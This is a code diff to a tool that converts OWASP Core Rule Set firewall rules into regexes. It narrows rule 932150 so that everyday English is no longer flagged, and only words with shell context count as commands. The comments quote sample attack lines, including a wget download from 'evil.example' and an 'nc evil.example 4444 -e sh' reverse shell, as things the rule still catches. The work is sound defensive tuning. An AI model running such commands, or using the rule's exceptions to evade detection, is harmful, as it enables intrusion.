@@ -229,6 +229,43 @@ def load_data(rules_dir: Path, name: str) -> list[str]:
     return [ln.strip() for ln in lines if ln.strip() and not ln.startswith("#")]
 
 
+# -- refinements: CRS patterns that flag plain English, narrowed to the shell syntax that makes them attacks -------
+
+# CRS 932150 ("direct Unix command execution") fires on a value that *starts* with a Unix command word followed by
+# any whitespace: "cat food", "echo dot speaker", "python tutorial", "time to go" all look like commands to it. A
+# command is only dangerous where a shell parses it, so the refined rule asks for what a shell would see after the
+# word: an operator (; | & < > ` $( ) right after it; or a first argument only a command line has -- an option (-x,
+# --long), a path (/, ~/, ./, ../), a variable ($HOME, ${..}, $(..)), a quoted, escaped or globbed word, a URL, a
+# host name --; or later in the same value a shell operator (|, ;, `, &&, $( ), ${ }, a redirect to a path), an
+# option, an absolute path of two levels or more, an IPv4 address or a script file name ("wget evil.example/x -O
+# /tmp/x", "nc evil.example 4444 -e sh", "python exploit.py"). A word preceded by a path ("/bin/cat x") keeps CRS's
+# own condition: the path is already shell context. Commands after a separator (";cat x", "|id") are
+# 932100/932105/932106's class and are not affected.
+_CMD_PATH = r"""(?:[\?\*\[\]\(\)\-\|+\w'"\./\\\\]+/)?"""
+_CMD_TAIL = r"(?:\s|;|\||&|<|>)"
+SHELL_CONTEXT = (
+    r"(?:[;|&<>`]|\$\("
+    # the first argument: an option, a path, a variable, a quoted/escaped/globbed word, a pipe or list operator,
+    # a URL (also as second argument: "svn co http://.."), a host name ("nc evil.example 4444")
+    r"|\s+(?:--?[A-Za-z0-9]|[/~]|\.{1,2}/|\$[A-Za-z_{(]|['\"`\\*]|[;|]|&&"
+    r"|(?:\S+\s+)?[A-Za-z][A-Za-z0-9+.-]*://|[\w-]+(?:\.[\w-]+)*\.[A-Za-z]{2,}(?:[/:\s]|$))"
+    # later in the value: an operator, a redirect to a path, an option, an absolute path, an IPv4 address, a script
+    r"|\s.*(?:[|;`]|&&|\$[({]|[<>]\s*[/~&]|\s--?[A-Za-z][\w-]*(?:[\s=]|$)|\s/\w+/"
+    r"|\b\d{1,3}(?:\.\d{1,3}){3}\b|\.(?:sh|bash|pl|py|php|rb|elf|bin)\b))"
+)
+
+
+def _shell_context(regex: str) -> tuple[str, str]:
+    if not regex.endswith(_CMD_TAIL) or _CMD_PATH not in regex:
+        raise ValueError("932150's pattern changed: review the refinement")
+    with_path = regex.replace(_CMD_PATH, _CMD_PATH[:-1], 1)
+    in_context = regex[: -len(_CMD_TAIL)] + SHELL_CONTEXT
+    return f"(?:{with_path})|(?:{in_context})", "refined: a command word needs shell context (see SHELL_CONTEXT)"
+
+
+REFINED = {"932150": _shell_context}
+
+
 def operator_regex(rule: SecRule, rules_dir: Path) -> tuple[str | None, str]:
     op, arg = rule.operator, rule.argument
     if rule.negated:
@@ -236,7 +273,11 @@ def operator_regex(rule: SecRule, rules_dir: Path) -> tuple[str | None, str]:
     if "%{" in arg:
         return None, "macro in operand"
     if op == "rx":
-        return translate(arg)
+        regex, note = translate(arg)
+        if regex is not None and rule.id in REFINED:
+            regex, extra = REFINED[rule.id](regex)
+            note = "; ".join(x for x in (note, extra) if x)
+        return regex, note
     if op == "pm":
         return _words_regex(arg.split()), ""
     if op in ("pmFromFile", "pmf"):
